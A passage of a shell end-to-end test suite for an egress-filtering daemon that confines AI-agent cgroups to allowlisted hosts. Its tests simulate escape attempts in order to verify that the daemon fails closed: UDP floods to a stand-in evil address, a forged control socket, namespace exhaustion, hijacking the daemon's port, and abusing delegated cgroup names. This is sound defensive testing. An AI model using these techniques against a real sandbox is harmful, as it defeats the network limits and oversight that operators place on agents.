{ "listen": { "control": "$E2E_DIR/ctl/flood.sock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "agents": { "mode": "enforce", "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "agents" } ] }
JSON
	cg_run 'mkdir "$CG'"$DCG"'/agents/job1"' || fail "cannot create the cgroup"
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	# shellcheck disable=SC2016
	out=$(in_cg "$DCG/agents/job1" "$E2E_PY" -c 'import socket, sys, time
n, addr = int(sys.argv[1]), sys.argv[2]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
refused = 0
t = time.monotonic()
for i in range(n):
    try:
        s.sendto(b"x", (addr, 10000 + i % 3000))
    except PermissionError:
        refused += 1
print(refused, round(time.monotonic() - t, 3))' "$want" "$EVIL4") || fail "the flood failed: $(oneline "$out")"
	[ "${out%% *}" = "$want" ] || fail "not every send was refused: $(oneline "$out")"
	# 3,000 ports twice: the cgroup's first 1,024 kinds itemized, the rest
	# folded by reason (kfold.h); every one counted
	local records
	for _ in $(seq 50); do
		read -r records n <<<"$(audit_counts "$CASE_AUDIT" udp)"
		[ "$n" -ge "$want" ] && break
		sleep 0.2
	done
	note "$want refused sends in ${out#* } s: $records kernel records for $n in the audit log"
	[ "$n" = "$want" ] || fail "$n of $want refused sends reached the audit log"
	[ "$records" -lt 3000 ] || fail "$records records for $want refusals: not folded"
	grep -q '"reason":"udp".*"count":[0-9]*,"detail":"udp sendmsg; destinations and processes not itemized' \
		"$CASE_AUDIT" || fail "no folded record of the sweep"
}

# egressctl talks only to a daemon running as root: a socket another user
# put at the control path (in a directory they can write) would feed it a
# forged status or a false "reloaded".
case_egressctl_checks_server() {
	local d out ctl=$E2E_REPO/egressctl
	need_egressd
	d=$(mktemp -d /tmp/egressd-fakectl.XXXXXX) || fail "mktemp"
	trap 'rm -rf "'"$d"'"' EXIT
	chown "$E2E_NOBODY_UID" "$d"
	chmod 755 "$d"
	# shellcheck disable=SC2016
	outside "$E2E_PY" -c 'import os, socket, sys
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o666)
s.listen(); open(sys.argv[1] + ".ready", "w").close()
c, _ = s.accept(); c.recv(4096)
c.sendall(b"{\"ok\": true, \"reloaded\": true}\n")' "$d/c.sock" &
	for _ in $(seq 50); do [ -e "$d/c.sock.ready" ] && break; sleep 0.1; done
	out=$("$ctl" reload --socket "$d/c.sock" 2>&1) &&
		fail "egressctl believed a socket of uid $E2E_NOBODY_UID: $(oneline "$out")"
	grep -q "answered by uid $E2E_NOBODY_UID, not root" <<<"$out" ||
		fail "no reason given: $(oneline "$out")"
	note "$(oneline "$out")"
	wait
	return 0
}

# An agent makes network namespaces of its own (unshare(CLONE_NEWUSER |
# CLONE_NEWNET), no privilege needed): each one the daemon served cost it
# descriptors and a slot in the table every pod shares. It serves at most
# 16 found through one cgroup, says so, and another cgroup is served as
# before.
case_daemon_netns_per_cgroup() {
	need_egressd
	local out n apid dsock=$E2E_DIR/ctl/control.sock
	daemon_bed daemon bpffs daemon agents
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock" },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "agents": { "mode": "enforce", "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "agents" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	cg_run 'mkdir "$CG'"$DCG"'/agents/job1" "$CG'"$DCG"'/agents/job2"'
	sleep 0.3
	in_cg "$DCG/agents/job1" "$E2E_PY" -c 'import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
for i in range(40):
    if os.fork() == 0:
        if libc.unshare(0x10000000 | 0x40000000):
            os._exit(1)
        time.sleep(7)
        os._exit(0)
time.sleep(7.5)' &
	apid=$!
	# served at once, as the daemon's status lists them, over 5 s (it
	# scans every 2 s; a scan that ran while the forks were unsharing may
	# have served another set of 16 than the next: the count of
	# "listening on" lines can pass 16, the namespaces served at once not)
	local max=0 cur
	for _ in $(seq 10); do
		sleep 0.5
		cur=$("$E2E_REPO/egressctl" status --socket "$dsock" --json |
			"$E2E_PY" -c 'import json, sys; print(len(json.load(sys.stdin).get("netns") or []))')
		[ "${cur:-0}" -gt "$max" ] && max=$cur
	done
	n=$(grep -c "listening on 127.0.0.1:$DAEMON_PORT" "$CASE_STDERR")
	note "namespaces served at once: at most $max ($n listeners opened); $(grep -m1 'not served' "$CASE_STDERR")"
	[ "$max" -le 16 ] || fail "the daemon served $max namespaces of one cgroup's processes at once"
	[ "$max" -ge 8 ] || fail "only $max of the 40 namespaces served: the cap was not what held them"
	grep -q "its processes are in more than 16 network namespaces" "$CASE_STDERR" ||
		fail "no warning: $(tail -3 "$CASE_STDERR")"
	out=$(in_cg "$DCG/agents/job2" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "job2 -> allowed.test: $(oneline "$out")"
	wait "$apid"
}

case_daemon_enforces_bindings() {
	need_egressd
	local out rc i
	local ctl=$E2E_REPO/egressctl dsock=$E2E_DIR/ctl/control.sock
	daemon_bed daemon bpffs daemon agents
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock" },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "agents": { "mode": "enforce", "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "agents" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	# Created after the daemon started: found by inotify.
	cg_run 'mkdir "$CG'"$DCG"'/agents/job1" "$CG'"$DCG"'/agents/other"'
	sleep 0.3
	log_mark evil.test
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "job1 -> allowed.test: $(oneline "$out")"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://evil.test/) && fail "job1 -> evil.test succeeded"
	out=$(in_cg "$DCG/agents/other" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) && fail "unbound cgroup reached allowed.test (no deny-all)"
	evil_untouched "daemon"
	# A decision the kernel takes alone (UDP to a non-DNS port) is in the
	# daemon's audit log too.
	in_cg "$DCG/agents/job1" "$E2E_PY" "$E2E_DIR/bin/client.py" udp "$EVIL4" 443 >/dev/null &&
		fail "UDP to evil:443 was sent"
	sleep 0.3
	grep -Eq '"origin": ?"kernel"' "$CASE_AUDIT" ||
		fail "no kernel decision in the daemon's audit log"
	grep -q '"reason":"no_match"\|"reason": "no_match"' "$CASE_AUDIT" ||
		fail "audit log has no no_match record"

	# SIGKILL: the pinned programs stay, the cgroup fails closed.
	kill -9 "$DPID"
	sleep 0.3
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) && fail "network worked with the daemon dead (fail open)"
	note "daemon dead: $(oneline "$out")"
	# Its port is free now: a process of an enforced cgroup that took it
	# would receive every redirected connection and DNS query (other
	# tenants' too) and keep the daemon from coming back.
	# shellcheck disable=SC2016
	out=$(in_cg "$DCG/agents/job1" "$E2E_PY" -c 'import socket, sys
for fam, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"),
                  (socket.AF_INET, "0.0.0.0")):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        s = socket.socket(fam, kind)
        try:
            s.bind((host, int(sys.argv[1])))
            print("bound", host, kind)
        except OSError as e:
            print("refused", host, kind, e.errno)' "$DAEMON_PORT" 2>&1)
	note "binding the dead daemon's port: $(oneline "$out")"
	grep -q "^bound" <<<"$out" && fail "a process of the cgroup took the daemon's port: $(oneline "$out")"
	[ "$(grep -c "^refused .* 1$" <<<"$out")" = 6 ] ||
		fail "binding the daemon's port was not refused with EPERM: $(oneline "$out")"
	# Restart: adopts the pins and serves again.
	daemon_start || fail "daemon did not restart: $(tail -3 "$CASE_STDERR")"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "after restart: $(oneline "$out")"

	# egressctl over the control socket (the restarted daemon replaced
	# the socket file the killed one left).
	for ((i = 0; i < 50; i++)); do
		out=$("$ctl" status --socket "$dsock" 2>&1) && break
		sleep 0.1
	done
	note "egressctl status: $(oneline "$out")"
	grep -q "attach points  *$DCG/agents\$" <<<"$out" ||
		fail "egressctl status does not show the attach point: $(oneline "$out")"
	grep -Eq "^  agents +enforce +local +1 +0 " <<<"$out" ||
		fail "egressctl status does not show the policy: $(oneline "$out")"
	# counted from the audit log since this daemon started: one allowed
	# above, one denied here (records land when the connection closes)
	in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://evil.test/ >/dev/null 2>&1 && fail "job1 -> evil.test succeeded"
	for ((i = 0; i < 20; i++)); do
		grep -Eq "connections +[1-9][0-9]* allowed, [1-9][0-9]* denied" <<<"$out" && break
		sleep 0.1
		out=$("$ctl" status --socket "$dsock" 2>&1)
	done
	grep -Eq "connections +[1-9][0-9]* allowed, [1-9][0-9]* denied" <<<"$out" ||
		fail "egressctl status counters: $(oneline "$out")"
	out=$("$ctl" status --socket "$dsock" --json) ||
		fail "egressctl status --json failed"
	python3 -c 'import json, sys; s = json.load(sys.stdin)
assert s["policies"][0]["name"] == "agents" and s["cgroups"]["bound"] >= 1, s' <<<"$out" ||
		fail "egressctl status --json: $(oneline "$out")"
	out=$(setpriv --reuid 65534 --regid 65534 --clear-groups \
		"$ctl" status --socket "$dsock" 2>&1); rc=$?
	[ $rc = 1 ] && grep -q "Permission denied — the control socket is for root" <<<"$out" ||
		fail "egressctl as nobody: rc $rc: $(oneline "$out")"
	out=$("$ctl" status --socket "$E2E_DIR/ctl/none.sock" 2>&1); rc=$?
	[ $rc = 1 ] && grep -q "No such file or directory — is egressd daemon running?" <<<"$out" ||
		fail "egressctl without a daemon: rc $rc: $(oneline "$out")"

	# Reload: an invalid file is refused, the running config stays.
	cp "$DCFG" "$DCFG.good"
	echo '{ "policies": { "agents": { "alow": [] } } }' >"$DCFG"
	out=$("$ctl" reload --socket "$dsock" 2>&1); rc=$?
	[ $rc = 2 ] && grep -q "^egressctl: $DCFG:1: policies.agents.alow: unknown field" <<<"$out" ||
		fail "egressctl reload of an invalid file: rc $rc: $(oneline "$out")"
	kill -HUP "$DPID"
	sleep 0.5
	grep -q "reload refused" "$CASE_STDERR" || fail "invalid reload not refused"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "after refused reload: $(oneline "$out")"
	# A valid reload applies to new connections.
	sed 's/\["allowed.test"\]/["allowed.test", "evil.test"]/' "$DCFG.good" >"$DCFG"
	out=$("$ctl" reload --socket "$dsock" 2>&1) ||
		fail "egressctl reload of a valid file: $(oneline "$out")"
	grep -q "reloaded" "$CASE_STDERR" || fail "valid reload not applied"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://evil.test/) || fail "evil.test after the reload allowed it: $(oneline "$out")"
}

# Two tenants under one daemon, each bound to its own policy, cgroups made
# after the daemon started: each reaches only its own allowlist. Then a
# reload that widens one policy applies to new connections while a
# download that started before it runs to its end.
case_daemon_two_tenants_reload() {
	need_egressd
	local out rc dlpid
	local ctl=$E2E_REPO/egressctl dsock=$E2E_DIR/ctl/tenants.sock
	daemon_bed tenants bpffs-tenants daemon-tenants agents
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "coder": { "allow": ["allowed.test"] },
                "tools": { "allow": ["other.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/coder*", "policy": "coder" },
                { "cgroup": "$DCG/agents/tools*", "policy": "tools" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	cg_run 'mkdir "$CG'"$DCG"'/agents/coder1" "$CG'"$DCG"'/agents/tools1"' ||
		fail "cannot create the tenants' cgroups"
	log_mark allowed.test
	log_mark other.test
	out=$(in_cg "$DCG/agents/coder1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "coder1 -> allowed.test: $(oneline "$out")"
	out=$(in_cg "$DCG/agents/tools1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://other.test/) || fail "tools1 -> other.test: $(oneline "$out")"
	[ "$(log_new allowed.test | grep -c '"sni": "allowed.test"')" = 1 ] &&
		[ "$(log_new other.test | grep -c '"sni": "other.test"')" = 1 ] ||
		fail "each server should have seen exactly its own tenant's request"
	out=$(in_cg "$DCG/agents/coder1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		--resolve "other.test:443:$OTHER4" https://other.test/) &&
		fail "coder1 reached other.test (the tools tenant's allowlist)"
	out=$(in_cg "$DCG/agents/tools1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		--resolve "allowed.test:443:$ALLOWED4" https://allowed.test/) &&
		fail "tools1 reached allowed.test (the coder tenant's allowlist)"
	sleep 0.3
	[ "$(log_new allowed.test | grep -c '"sni": "allowed.test"')" = 1 ] &&
		[ "$(log_new other.test | grep -c '"sni": "other.test"')" = 1 ] ||
		fail "a server saw the other tenant's connection"
	audit_find "o.get('cgroup', '').endswith('/coder1') and o.get('sni') == 'other.test' and o.get('verdict') == 'deny' and o.get('policy') == 'coder'" >/dev/null ||
		fail "no denial of coder1 -> other.test under policy coder"
	audit_find "o.get('cgroup', '').endswith('/tools1') and o.get('sni') == 'allowed.test' and o.get('verdict') == 'deny' and o.get('policy') == 'tools'" >/dev/null ||
		fail "no denial of tools1 -> allowed.test under policy tools"

	# ~4 s download, then a reload that lets coder reach evil.test too
	in_cg "$DCG/agents/coder1" curl -sS --max-time 30 --cacert "$E2E_CA" \
		-w '%{http_code} %{size_download}\n' -o /dev/null \
		"https://allowed.test/slow?ms=4000" >"$E2E_DIR/tenants-dl.out" &
	dlpid=$!
	bed_track $dlpid
	sleep 1
	sed -i 's/"allow": \["allowed.test"\]/"allow": ["allowed.test", "evil.test"]/' "$DCFG"
	out=$("$ctl" reload --socket "$dsock" 2>&1) || fail "egressctl reload: $(oneline "$out")"
	kill -0 $dlpid 2>/dev/null || fail "the download ended before the reload: $(cat "$E2E_DIR/tenants-dl.out")"
	out=$(in_cg "$DCG/agents/coder1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://evil.test/) || fail "coder1 -> evil.test after the reload: $(oneline "$out")"
	out=$(in_cg "$DCG/agents/tools1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		--resolve "evil.test:443:$EVIL4" https://evil.test/) &&
		fail "tools1 reached evil.test: the reload changed the wrong tenant"
	wait $dlpid; rc=$?
	[ $rc = 0 ] && [ "$(cat "$E2E_DIR/tenants-dl.out")" = "200 $((1 << 20))" ] ||
		fail "the download across the reload: exit $rc, $(cat "$E2E_DIR/tenants-dl.out")"
}

# A connected UDP socket to the resolver (c-ares in Node keeps one) has
# the origin its connect() recorded, policy id included. Two reloads
# later that id is in a bank the newest config refilled: here with "x",
# which allows evil.test. Each query must be judged by the cgroup's
# binding now ("pa": allowed.test only).
case_daemon_reload_connected_udp() {
	need_egressd
	local out i ctl=$E2E_REPO/egressctl dsock=$E2E_DIR/ctl/rcu.sock
	local go=$E2E_DIR/run/rcu.go ready=$E2E_DIR/run/rcu.ready res=$E2E_DIR/run/rcu.out
	daemon_bed rcu bpffs-rcu daemon-rcu agents/job1
	cg_run 'mkdir -p "$CG'"$DCG"'/others"' || fail "cannot create $DCG/others"
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "pa": { "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "pa" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	rm -f "$go" "$ready" "$res"
	touch "$res" && chmod 666 "$res"
	in_cg "$DCG/agents/job1" "$E2E_PY" -c 'import os, socket, struct, sys, time
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect((ns, 53))
s.settimeout(5)
t = socket.create_connection((ns, 53), timeout=5)
def recv_all(n):
    b = b""
    while len(b) < n:
        c = t.recv(n - len(b))
        if not c:
            raise OSError("closed")
        b += c
    return b
def q(name, qid, tcp=False):
    qn = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    m = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qn + struct.pack(">HH", 1, 1)
    if tcp:
        t.sendall(struct.pack(">H", len(m)) + m)
        r = recv_all(struct.unpack(">H", recv_all(2))[0])
    else:
        s.send(m)
        r = s.recv(4096)
    return "%s rcode=%d answers=%d" % (name, r[3] & 15, struct.unpack(">H", r[6:8])[0])
out = open(sys.argv[3], "a")
out.write("before " + q("allowed.test", 1) + "\n")
out.write("tcp-before " + q("allowed.test", 11, True) + "\n")
out.flush()
open(sys.argv[2], "w").close()
for _ in range(300):
    if os.path.exists(sys.argv[1]):
        break
    time.sleep(0.1)
out.write("after " + q("evil.test", 2) + "\n")
out.write("after " + q("allowed.test", 3) + "\n")
out.write("tcp-after " + q("evil.test", 12, True) + "\n")
out.write("tcp-after " + q("allowed.test", 13, True) + "\n")
out.close()' "$go" "$ready" "$res" &
	bed_track $!
	for ((i = 0; i < 100; i++)); do [ -e "$ready" ] && break; sleep 0.1; done
	[ -e "$ready" ] || fail "the client did not start: $(cat "$res")"
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "x": { "allow": ["evil.test"] }, "pa": { "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "pa" },
                { "cgroup": "$DCG/others/*", "policy": "x" } ] }
JSON
	for i in 1 2; do
		out=$("$ctl" reload --socket "$dsock" 2>&1) || fail "reload $i: $(oneline "$out")"
	done
	touch "$go"
	for ((i = 0; i < 100; i++)); do [ "$(grep -c . "$res")" -ge 6 ] && break; sleep 0.1; done
	note "$(oneline "$(cat "$res")")"
	local p
	for p in "" tcp-; do
		grep -q "^${p}before allowed.test rcode=0 answers=[1-9]" "$res" ||
			fail "${p}allowed.test before the reloads: $(oneline "$(cat "$res")")"
		grep -q "^${p}after evil.test rcode=0 answers=[1-9]" "$res" &&
			fail "${p}evil.test answered after two reloads (another policy's id): $(oneline "$(cat "$res")")"
		grep -q "^${p}after evil.test " "$res" ||
			fail "${p}no answer for evil.test: $(oneline "$(cat "$res")")"
		grep -q "^${p}after allowed.test rcode=0 answers=[1-9]" "$res" ||
			fail "${p}allowed.test after the reloads: $(oneline "$(cat "$res")")"
	done
}

# SIGKILL the daemon and wait until it is gone (its port is free again).
daemon_kill9() {
	local i
	kill -9 "$DPID"
	for ((i = 0; i < 50; i++)); do
		kill -0 "$DPID" 2>/dev/null || return 0
		sleep 0.1
	done
	fail "daemon $DPID still there 5 s after SIGKILL"
}

# rap_b_reaches HOST: b/job1 gets HOST's page (its address given, so a
# refused DNS query does not decide); rap_a_ok: a/job1 gets allowed.test's.
rap_b_reaches() {
	local ip=$ALLOWED4
	[ "$1" = evil.test ] && ip=$EVIL4
	in_cg "$DCG/b/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		--resolve "$1:443:$ip" -o /dev/null "https://$1/" 2>/dev/null
}
rap_a_ok() {
	in_cg "$DCG/a/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		-o /dev/null https://allowed.test/ 2>/dev/null
}

# A reload that removes an attach point: its cgroups keep their programs
# (closed, never open) and lose their binding, so they are denied
# everything. Kept, the binding (a policy id in the old bank) would be
# judged by whatever policy the next reload puts at that id: here "open",
# an audit-mode policy that allows everything.
case_daemon_reload_removes_attach_point() {
	need_egressd
	local out i ctl=$E2E_REPO/egressctl dsock=$E2E_DIR/ctl/rap.sock
	daemon_bed rap bpffs-rap daemon-rap a/job1
	cg_run 'mkdir -p "$CG'"$DCG"'/b/job1" "$CG'"$DCG"'/x"' || fail "cannot create $DCG/b/job1"
	# with b; without b, "open" (audit mode: allows all) at b's old index
	cat >"$DCFG.ab" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "pa": { "allow": ["allowed.test"] },
                "pb": { "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/a/job*", "policy": "pa" },
                { "cgroup": "$DCG/b/job*", "policy": "pb" } ] }
JSON
	cat >"$DCFG.ax" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "pa": { "allow": ["allowed.test"] },
                "open": { "mode": "audit", "allow": [] } },
  "bindings": [ { "cgroup": "$DCG/a/job*", "policy": "pa" },
                { "cgroup": "$DCG/x/job*", "policy": "open" } ] }
JSON
	cp "$DCFG.ab" "$DCFG"
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	rap_b_reaches allowed.test || fail "b/job1 -> allowed.test failed with b bound"
	cp "$DCFG.ax" "$DCFG"
	# twice: the second reload refills the bank b's old binding pointed at
	for i in 1 2; do
		out=$("$ctl" reload --socket "$dsock" 2>&1) || fail "reload $i: $(oneline "$out")"
		rap_a_ok || fail "reload $i: a/job1 -> allowed.test failed"
		rap_b_reaches allowed.test && fail "reload $i: b/job1 (attach point removed) reached allowed.test"
		rap_b_reaches evil.test && fail "reload $i: b/job1 (attach point removed) reached evil.test"
	done
	grep -q "attach point $DCG/b is no longer in the config" "$CASE_STDERR" ||
		fail "no warning about the removed attach point"
	grep -q "unbound [0-9]* cgroup(s) outside the attach points" "$CASE_STDERR" ||
		fail "no message about the unbound cgroups"
	# An attach point that does not exist yet (a systemd slice appears
	# with its first unit): nothing would ever watch for it, so the reload
	# is refused, as the same config at start is, and nothing of it applies.
	sed "s|\"$DCG/x/job\*\", \"policy\": \"open\"|\"$DCG/later/job*\", \"policy\": \"open\"|" \
		"$DCFG.ax" >"$DCFG"
	grep -q "$DCG/later/job" "$DCFG" || fail "config not changed: $(oneline "$(cat "$DCFG")")"
	out=$("$ctl" reload --socket "$dsock" 2>&1) &&
		fail "a reload naming the missing attach point $DCG/later succeeded: $(oneline "$out")"
	grep -q "attach point $DCG/later: No such file or directory" <<<"$out" ||
		fail "the refusal does not name the attach point: $(oneline "$out")"
	note "missing attach point: $(oneline "$out")"
	rap_a_ok || fail "after the refused reload: a/job1 -> allowed.test failed"
	cp "$DCFG.ax" "$DCFG"
	# The same across a restart: a daemon started with the first config,
	# killed, and started with the second finds b's binding (policy id 1
	# of bank 0, "open" in the second config) left by the first one.
	for i in ab ax; do
		daemon_kill9
		cp "$DCFG.$i" "$DCFG"
		daemon_start || fail "daemon did not restart with $i: $(tail -3 "$CASE_STDERR")"
		[ $i = ax ] || rap_b_reaches allowed.test || fail "restart with b: b/job1 -> allowed.test failed"
	done
	rap_b_reaches evil.test && fail "restart: b/job1 (attach point removed) reached evil.test"
	rap_a_ok || fail "restart: a/job1 -> allowed.test failed"
	note "b/job1 denied everything after both reloads and after a restart"
}

# A cgroup delegated to a user (systemd's Delegate=yes chowns its
# directory and its cgroup.procs): the user can make cgroups below it,
# name them, and move its processes into them. Named to match a binding
# meant for other cgroups ("$DCG/**/trusted", a wider policy), such a
# cgroup would take that policy; the daemon denies it everything instead,
# while a cgroup of the same name root made elsewhere gets the binding. One
# the delegate names to match a binding of job1's own policy
# ("$DCG/**/worker*") is left to inheritance: no entry of its own in
# egr_cgroups (a delegate making thousands takes none), job1's policy.
case_daemon_delegated_subtree() {
	need_egressd
	local out
	daemon_bed deleg bpffs-deleg daemon-deleg agents/job1
	cg_run 'mkdir -p "$CG'"$DCG"'/ci/trusted"' || fail "cannot create $DCG/ci/trusted"
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$E2E_DIR/ctl/deleg.sock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "agents": { "allow": ["allowed.test"] },
                "wide": { "allow": ["allowed.test", "evil.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "agents" },
                { "cgroup": "$DCG/**/worker*", "policy": "agents" },
                { "cgroup": "$DCG/**/trusted", "policy": "wide" } ] }
JSON
	# delegated as systemd does it: the directory and its procs file
	# shellcheck disable=SC2016
	cg_run 'cd "$CG'"$DCG"'/agents/job1" && chown '"$E2E_NOBODY_UID"' . cgroup.procs \
		cgroup.subtree_control cgroup.threads' || fail "cannot delegate job1"
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	# the delegate names two cgroups of its own, after the daemon started
	# shellcheck disable=SC2016
	out=$(cg_run 'setpriv --reuid='"$E2E_NOBODY_UID"' --regid='"$E2E_NOBODY_GID"' \
		--clear-groups mkdir "$CG'"$DCG"'/agents/job1/trusted" \
		"$CG'"$DCG"'/agents/job1/worker" && echo made' 2>&1)
	[ "$out" = made ] || fail "nobody could not make cgroups in its delegated one: $(oneline "$out")"
	sleep 0.3
	log_mark evil.test
	out=$(in_cg "$DCG/ci/trusted" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://evil.test/) || fail "root's ci/trusted -> evil.test (policy wide): $(oneline "$out")"
	log_mark evil.test
	out=$(in_cg "$DCG/agents/job1/trusted" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://evil.test/) && fail "the delegate's own trusted cgroup took policy wide: reached evil.test"
	note "delegate's trusted -> evil.test: $(oneline "$out")"
	evil_untouched "delegated cgroup named trusted"
	out=$(in_cg "$DCG/agents/job1/trusted" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) && fail "the delegate's trusted cgroup was not denied everything"
	out=$(in_cg "$DCG/agents/job1/worker" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "job1/worker did not get job1's policy: $(oneline "$out")"
	out=$(in_cg "$DCG/agents/job1/worker" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://evil.test/) && fail "job1/worker reached evil.test"
	evil_untouched "delegated worker"
	grep -q "cgroup $DCG/agents/job1/trusted: binding $DCG/\*\*/trusted not applied: a cgroup above it can be written by uid $E2E_NOBODY_UID ($DCG/agents/job1)" \
		"$CASE_STDERR" || fail "no warning naming the delegated cgroup: $(oneline "$(grep -i deleg "$CASE_STDERR")")"
	# worker: no binding of its own in the kernel, it counts as job1
	out=$(daemon_binding "$DCG/agents/job1/worker") &&
		fail "the delegate's worker cgroup has a binding of its own: $(oneline "$out")"
	daemon_binding "$DCG/ci/trusted" >/dev/null ||
		fail "root's ci/trusted has no binding in the kernel (the check above proves nothing)"
	# Thousands of such cgroups would fill egr_cgroups (4096 entries,
	# every tenant's): past 16 the delegate's subtree (job1) is denied as
	# a whole, and stays so across a reload (whose walk binds job1 again
	# before its children).
	# shellcheck disable=SC2016
	out=$(cg_run 'cd "$CG'"$DCG"'/agents/job1" && setpriv --reuid='"$E2E_NOBODY_UID"' \
		--regid='"$E2E_NOBODY_GID"' --clear-groups sh -c '\''for i in $(seq 60); do
		mkdir -p d$i/trusted || exit 1; done'\'' && echo made' 2>&1)
	[ "$out" = made ] || fail "nobody could not make 60 cgroups: $(oneline "$out")"
	local n
	for ((n = 0; n < 50; n++)); do
		grep -q "delegated cgroup $DCG/agents/job1: more than 16 cgroups" \
			"$CASE_STDERR" && break
		sleep 0.1
	done
	grep -q "delegated cgroup $DCG/agents/job1: more than 16 cgroups" \
		"$CASE_STDERR" || fail "no error about the delegated subtree: $(oneline "$(tail -2 "$CASE_STDERR")")"
	n=$(bpftool -j map dump pinned "$DBPF/egressd/egr_cgroups" | "$E2E_PY" -c 'import json, sys
print(len(json.load(sys.stdin)))')
	[ "$n" -le 24 ] || fail "egr_cgroups holds $n entries after 60 denied cgroups (at most 16 + a few)"
	out=$(in_cg "$DCG/agents/job1/worker" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) && fail "job1/worker still reached allowed.test: job1 was not denied as a whole"
	out=$("$E2E_REPO/egressctl" reload --socket "$E2E_DIR/ctl/deleg.sock" 2>&1) ||
		fail "reload: $(oneline "$out")"
	out=$(in_cg "$DCG/agents/job1/worker" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) && fail "after a reload job1/worker reached allowed.test again"
	n=$(bpftool -j map dump pinned "$DBPF/egressd/egr_cgroups" | "$E2E_PY" -c 'import json, sys
print(len(json.load(sys.stdin)))')
	[ "$n" -le 24 ] || fail "egr_cgroups holds $n entries after the reload"
	note "egr_cgroups: $n entries; job1 denied as a whole, also after a reload"
	# A rootless container's users (its subordinate uids) own cgroups of
	# their own inside the delegate's: they count against the delegate's
	# cap too, not each against one of its own (30 of them, each with a
	# "trusted" inside, took 30 entries on the build before).
	local n0=$n
	# shellcheck disable=SC2016
	cg_run 'cd "$CG'"$DCG"'/agents" && mkdir job2 && chown '"$E2E_NOBODY_UID"' job2 job2/cgroup.procs &&
		for i in $(seq 30); do mkdir job2/s$i && chown $((200000 + i)) job2/s$i &&
			setpriv --reuid=$((200000 + i)) --regid=$((200000 + i)) --clear-groups \
				mkdir job2/s$i/trusted || exit 1; done' ||
		fail "cannot make job2's subordinate cgroups"
